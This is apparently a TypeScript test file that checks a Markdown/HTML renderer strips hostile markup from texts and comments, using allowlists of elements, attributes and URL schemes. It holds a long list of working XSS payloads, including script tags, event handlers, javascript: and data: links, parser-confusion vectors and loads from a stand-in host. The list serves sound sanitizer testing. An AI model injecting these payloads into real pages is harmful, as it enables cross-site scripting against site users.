import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Element, Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { renderPlain } from '../../src/text/render-plain.ts';
import { renderText } from '../../src/text/render-text.ts';

/** Every element that may occur in the HTML of a text or comment. */
const HARMLESS = new Set(
  (
    'a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure footer ' +
    'h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table ' +
    'tbody td tfoot th thead time tr u ul var'
  ).split(' '),
);

const ATTRIBUTES = new Set(
  (
    'abbr alt ariaLabel cite className colSpan dateTime decoding dir headers height href hrefLang id lang loading open rel ' +
    'reversed role rowSpan scope span src start tabIndex title value width'
  ).split(' '),
);

const HOSTILE: readonly string[] = [
  // Scripts
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'a <script>alert(1)</script> b',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '</p><script>alert(1)</script>',
  '<noscript><p title="</noscript><script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml <script>alert(1)</script> ?>',
  '<style></style><script>alert(1)</script></style>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<select><script>alert(1)</script></select>',
  // Text reordered by directional formatting
  'a \u202egpj.exe &#x202E;b &#8238; \u2067c &#x2066;d',
  '## \u202ea &#x202E;b\n\n<b title="&#x202e;">&#8237;x</b> ![&#x202E;](a.png "&#x202D;")\n\n```\n\u202e\n```',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  "<img src='x'onerror=alert(1)//",
  '<p/onclick=alert(1)>x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<b ONMOUSEOVER\n=\nalert(1)>x</b>',
  '<a href="#" =onclick=alert(1)>x</a>',
  '<div title="x" title="y" onload=alert(1)',
  '<p title="`onmouseover=alert(1)`" lang=\'x"onclick="alert(1)\'>x</p>',
  '<body onload=alert(1)>',
  '<html><head><base href="//evil.example/"></head></html>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  // Styles
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "//evil.example/x.css"</style>',
  // Frames, form controls, players, foreign elements
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button><input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math href="javascript:alert(1)">x</math>',
  '<x-dropped></x-dropped><script>alert(1)</script>',
  '<p data-raw="0">x</p><a data-raw="1" href="javascript:alert(1)">x</a>',
  '<isindex type=image src=x onerror=alert(1)>',
  // Addresses
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](vbscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](feed:javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x]\n\n[x]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '![x](https://evil.example/x.png) <img src=//evil.example/x.png srcset="//evil.example/y.png 2x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#0106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<q cite="javascript:alert(1)">x</q>',
  '<img src=" data:text/html,x">',
  // Markdown that puts text into attributes and ids
  '[x](https://a.example "\\" onclick=\\"alert(1)")',
  '[x](https://a.example/"onclick="alert(1))',
  '![x" onerror="alert(1)](a.png "y\' onerror=\'alert(1)")',
  '```"onclick="alert(1)\nx\n```',
  '## x {#"onclick="alert(1)}',
  '<p id="x&quot;onclick=&quot;alert(1)" class="x&quot;onclick">x</p>',
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  '^[<script>alert(1)</script>]',
  '| <script>alert(1)</script> | <b onclick=alert(1)> |\n|---|---|',
  'Term <script>\n: alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  // Nesting depth
  '<b>'.repeat(5000),
  '<div>'.repeat(5000),
  '<table><tr><td>'.repeat(500),
  '> '.repeat(2000),
  '['.repeat(5000),
  '<a href="x">'.repeat(500),
];

function elementsOf(tree: Root | Element): Element[] {
  return tree.children.flatMap((node) => (node.type === 'element' ? [node, ...elementsOf(node)] : []));
}

/** The scheme of an address as browsers find it (WHATWG URL, 4.4); empty if the address is relative. */
function schemeOf(address: string): string {
  const compact = address.replace(/^[\u0000-\u0020]+|[\t\n\r]/g, '');
  return /^([a-z][a-z\d+.-]*):/i.exec(compact)?.[1]?.toLowerCase() ?? '';
}

function assertHarmless(html: string): void {
  assert.doesNotMatch(html, /[\u202a-\u202e\u2066-\u2069]/u);
  for (const { tagName, properties } of elementsOf(fromHtml(html, { fragment: true }))) {
    assert.ok(HARMLESS.has(tagName), `<${tagName}> in ${html}`);
    for (const [name, value] of Object.entries(properties)) {
      assert.ok(ATTRIBUTES.has(name), `${name} of <${tagName}> in ${html}`);
      if (name === 'href' || name === 'cite') assert.match(schemeOf(String(value)), /^(?:https?|mailto)?$/);
      if (name === 'src') assert.match(String(value), /^\/media\//);
    }
  }
}

describe('no hostile HTML is published', () => {
  for (const [index, source] of HOSTILE.entries()) {
    test(`of a text, ${index}: ${JSON.stringify(source.slice(0, 60))}`, () => {
      const text = { file: 'a.md', bodyLine: 1, language: 'en', documentId: 'a' } as const;
      for (const body of [source, `- ${source}`, `<br>\n\n${source}`]) {
        // Even if the archive resolves an address to anything at all, the link may only lead to a harmless scheme.
        assertHarmless(renderText({ ...text, body }, (href) => ({ kind: 'external', href })).html);
        assertHarmless(renderText({ ...text, body }, () => ({ kind: 'broken', written: 'inherited' })).html);
      }
    });

    test(`of a comment, ${index}`, () => assertHarmless(renderPlain(source, 'en')));
  }

  test('the test itself detects hostile HTML', () => {
    for (const html of [
      '<script>',
      '<p onclick=x>',
      '<a href="javascript:x">',
      '<img src="//evil.example">',
    ]) {
      assert.throws(() => assertHarmless(html), assert.AssertionError);
    }
  });
});
